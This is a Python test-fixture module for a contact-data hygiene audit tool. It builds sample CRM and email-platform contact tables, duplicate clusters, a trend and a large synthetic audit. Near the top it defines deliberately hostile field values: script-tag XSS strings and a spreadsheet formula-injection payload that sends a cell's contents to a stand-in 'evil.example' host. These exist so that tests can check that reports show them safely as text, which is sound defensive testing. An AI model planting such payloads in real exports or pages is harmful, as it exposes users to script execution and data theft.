"""A small audit for the report tests: a CRM and an ESP with real-world defects, hostile
values (markup, formulas) in contact fields, two duplicate clusters and a trend."""

from __future__ import annotations

import hygiene
from hygiene.audit import Audit
from hygiene.model import Trend
from tests.helpers import make_source

#: Markup in a first name and an email address: the reports must show it as text.
SCRIPT_NAME = "<script>window.__pwned=1</script>"
SCRIPT_EMAIL = "<script>window.__pwned=2</script>@x.com"
#: A company that a spreadsheet would run as a formula.
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

CRM_COLUMNS = {
    "Record ID": "record_id",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Email": "email",
    "Phone Number": "phone",
    "Company Name": "company",
    "Country/Region": "country",
    "Lifecycle Stage": "lifecycle_stage",
    "Contact owner": "owner",
    "Marketing contact status": "marketable",
}
CRM_ROWS = [
    ("101", "Ann", "Lee", "ann@gmial.com", "+1 415 555 2671", "Acme", "United States", "Lead",
     "Jo Park", "Marketing contact"),
    ("102", "Bob", "Stone", "bob@acme.com", "(415) 555-0199", "Acme", "USA", "Customer",
     "Jo Park", "Marketing contact"),
    ("103", SCRIPT_NAME, "Test", SCRIPT_EMAIL, "1234567890", FORMULA_COMPANY, "United States",
     "Lead", "", "Marketing contact"),
    ("104", "Ann", "Lee", "ann.lee@acme.com", "+1 415 555 2671", "Acme Inc", "United States",
     "lead", "Jo Park", "Marketing contact"),
    ("105", "Cy", "Ng", "cy@acme", "", "Acme", "United States", "Lead", "Jo Park",
     "Marketing contact"),
    ("106", "Dee", "O'Neil", "dee@mailinator.com", "+44 20 7946 0958", "", "United Kingdom",
     "Subscriber", "Mo Diaz", "Non-marketing contact"),
    ("107", "Evan", "Wu", "info@wu-design.com", "+1 212 555 0143", "-Wu Design", "U.S.",
     "Lead", "Mo Diaz", "Marketing contact"),
    ("108", "<b>Fay</b>", "Test", "fay@test.com", "+1 646 555 0100", "@Fay Co", "United States",
     "Lead", "Mo Diaz", "Marketing contact"),
]  # fmt: skip
ESP_COLUMNS = {
    "Email Address": "email",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Member Status": "email_status",
    "OPTIN_TIME": "consent_date",
}
ESP_ROWS = [
    ("ann@gmail.com", "Ann", "Lee", "subscribed", "2024-01-02 10:00:00"),
    ("bob@acme.com", "Bob", "Stone", "subscribed", "2024-01-03 10:00:00"),
    ("gil@yahoo.com", "Gil", "Roy", "unsubscribed", "2024-02-01 10:00:00"),
    ("hal@hotmail.com", "Hal", "Poe", "cleaned", "2024-02-02 10:00:00"),
]  # fmt: skip

DUPLICATES = [
    {
        "cluster": 1,
        "confidence": 0.93,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 1, "record_id": "101"},
            {"source": "crm", "file": "contacts.csv", "row": 4, "record_id": "104"},
        ],
        "survivor": {"source": "crm", "row": 4},
        "evidence": ["name 0.97", "phone equal"],
    },
    {
        "cluster": 2,
        "confidence": 0.71,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 3, "record_id": "103"},
            {"source": "crm", "file": "contacts.csv", "row": 8, "record_id": "108"},
        ],
        "survivor": {"source": "crm", "row": 8},
        "evidence": ["last name equal"],
    },
]

TREND = Trend(
    previous_at="2026-11-10T09:00:00+00:00",
    previous_overall=61.2,
    overall_delta=4.3,
    dimension_deltas={"validity": 6.0, "completeness": -1.5},
    workflow_deltas={"newsletter": 12.5},
    new_findings=3,
    fixed_findings=9,
    new_by_code={"email.typo_domain": 2, "phone.invalid": 1},
    fixed_by_code={"email.invalid_syntax": 9},
    history=[("2026-10-01T09:00:00+00:00", 55.0), ("2026-11-10T09:00:00+00:00", 61.2)],
)


def crm_source():
    columns = list(CRM_COLUMNS)
    data = {c: [r[i] or None for r in CRM_ROWS] for i, c in enumerate(columns)}
    return make_source("crm", data, CRM_COLUMNS, platform="hubspot")


def esp_source():
    columns = list(ESP_COLUMNS)
    data = {c: [r[i] for r in ESP_ROWS] for i, c in enumerate(columns)}
    return make_source("esp", data, ESP_COLUMNS, platform="mailchimp", file="members.csv")


def sample_audit(duplicates: bool = True, trend: bool = True) -> Audit:
    """The audit of CRM_ROWS and ESP_ROWS with every workflow, clusters and a trend."""
    # The clusters are hand-made (DUPLICATES), so the matcher is not run.
    result = hygiene.audit(crm_source(), esp_source(), match=False)
    if duplicates:
        result.duplicates = [dict(d) for d in DUPLICATES]
    if trend:
        result.trend = TREND
    return result


#: Codes, severities and dimensions of the synthetic findings of `large_audit` (real rules).
LARGE_CODES = (
    ("email.invalid_syntax", "error", "validity", "email", "Email", "Not a deliverable address"),
    ("email.typo_domain", "error", "validity", "email", "Email", "Domain looks like a typo"),
    ("email.role_account", "warning", "validity", "email", "Email", "Role mailbox"),
    ("phone.invalid", "warning", "validity", "phone", "Phone Number", "Cannot be a real number"),
    ("value.placeholder", "warning", "validity", "first_name", "First Name", "Filler value"),
    ("field.inconsistent", "info", "consistency", "country", "Country/Region",
     "Non-canonical spelling"),
    ("field.missing_required", "error", "completeness", "last_name", "Last Name",
     "A field the workflows need is empty"),
)  # fmt: skip


def large_audit(rows: int = 1_000_000, findings: int = 1_000_000, clusters: int = 50_000,
                seed: int = 1) -> Audit:
    """An audit of a `rows`-row CRM and a 70% ESP with `findings` findings and `clusters`
    duplicate pairs, built straight from arrays (no checks run): what report.html embeds
    from an audit of that size. Values are varied (every record distinct) so nothing
    compresses to a few repeated strings."""
    import numpy as np
    import pandas as pd

    from hygiene.checks.rules import load_rules
    from hygiene.match import Cluster, MatchResult
    from hygiene.model import compact_findings
    from hygiene.score import DuplicateSet, compute
    from hygiene.workflows import load_workflows

    rng = np.random.default_rng(seed)
    firsts = np.array(["Ann", "Bob", "Cy", "Dee", "Evan", "Fay", "Gil", "Hal", "Ines", "José",
                       "Kenneth", "Lena", "Mo", "Nia", "Olu", "Priya"], dtype=object)
    lasts = np.array(["Lee", "Stone", "Ng", "O'Neil", "Wu", "Roy", "Poe", "Holmes", "García",
                      "Müller", "Smith", "Khan", "Rossi", "Kowalski"], dtype=object)
    countries = np.array(["United States", "USA", "U.S.", "United Kingdom", "Germany",
                          "France", "Canada", "", "Spain"], dtype=object)

    def people(n: int, tag: str) -> dict[str, pd.Series]:
        i = pd.Series(np.arange(n)).astype(str)
        first = pd.Series(firsts[rng.integers(0, len(firsts), n)])
        last = pd.Series(lasts[rng.integers(0, len(lasts), n)])
        email = first.str.lower() + "." + i + "@" + tag + "-example.com"
        return {"first": first, "last": last, "email": email, "i": i}

    crm_p = people(rows, "crm")
    crm_data = {
        "Record ID": "5" + crm_p["i"],
        "First Name": crm_p["first"],
        "Last Name": crm_p["last"],
        "Email": crm_p["email"],
        "Phone Number": "+1 415 555 " + (crm_p["i"].str[-4:].str.zfill(4)),
        "Company Name": "Acme " + (pd.Series(rng.integers(0, 5000, rows)).astype(str)),
        "Country/Region": pd.Series(countries[rng.integers(0, len(countries), rows)]),
        "Lifecycle Stage": pd.Series(np.array(["Lead", "Customer", "Subscriber", "lead"],
                                              dtype=object)[rng.integers(0, 4, rows)]),
        "Contact owner": pd.Series(np.array(["Jo Park", "Mo Diaz", ""], dtype=object)[
            rng.integers(0, 3, rows)]),
        "Marketing contact status": "Marketing contact",
    }
    crm = make_source("crm", {k: v.tolist() if hasattr(v, "tolist") else [v] * rows
                              for k, v in crm_data.items()}, CRM_COLUMNS, platform="hubspot")
    esp_n = int(rows * 0.7)
    esp_p = people(esp_n, "esp")
    esp = make_source(
        "esp",
        {"Email Address": esp_p["email"].tolist(), "First Name": esp_p["first"].tolist(),
         "Last Name": esp_p["last"].tolist(),
         "Member Status": ["subscribed"] * esp_n,
         "OPTIN_TIME": ["2024-01-02 10:00:00"] * esp_n},
        ESP_COLUMNS, platform="mailchimp", file="members.csv")

    k = rng.integers(0, len(LARGE_CODES), findings)
    pos = rng.integers(0, rows, findings)
    table = np.array(LARGE_CODES, dtype=object)
    emails = crm.data["Email"].to_numpy(dtype=object)
    frame = pd.DataFrame({
        "code": table[k, 0], "severity": table[k, 1], "dimension": table[k, 2],
        "source": "crm", "file": "contacts.csv", "sheet": None,
        "row": pos + 1, "record_id": ("5" + pd.Series(pos).astype(str)).to_numpy(dtype=object),
        "field": table[k, 3], "column": table[k, 4],
        "value": emails[pos], "suggestion": None, "message": table[k, 5], "related": None,
        "pos": pos,
    })
    compact_findings(frame)

    left = rng.choice(rows, size=clusters * 2, replace=False)
    made = [
        Cluster(id=c + 1, source="crm", members=sorted((int(a), int(b))),
                confidence=float(0.55 + 0.45 * ((c * 7919) % 1000) / 1000), survivor=int(a),
                evidence=["name 0.97", "phone equal"],
                survivor_reason="most complete (9 of 14 fields)")
        for c, (a, b) in enumerate(left.reshape(-1, 2).tolist())
    ]
    redundant = np.sort(left.reshape(-1, 2)[:, 1])
    workflows = list(load_workflows().values())
    kinds = {"crm": "crm", "esp": "esp"}
    rules = load_rules()
    score = compute(frame, [crm, esp], workflows, kinds, [DuplicateSet("crm", redundant)],
                    {r.code: r.title for r in rules})
    return Audit(sources=[crm, esp], findings=frame, score=score, workflows=workflows,
                 rules=rules, match=MatchResult(clusters=made))
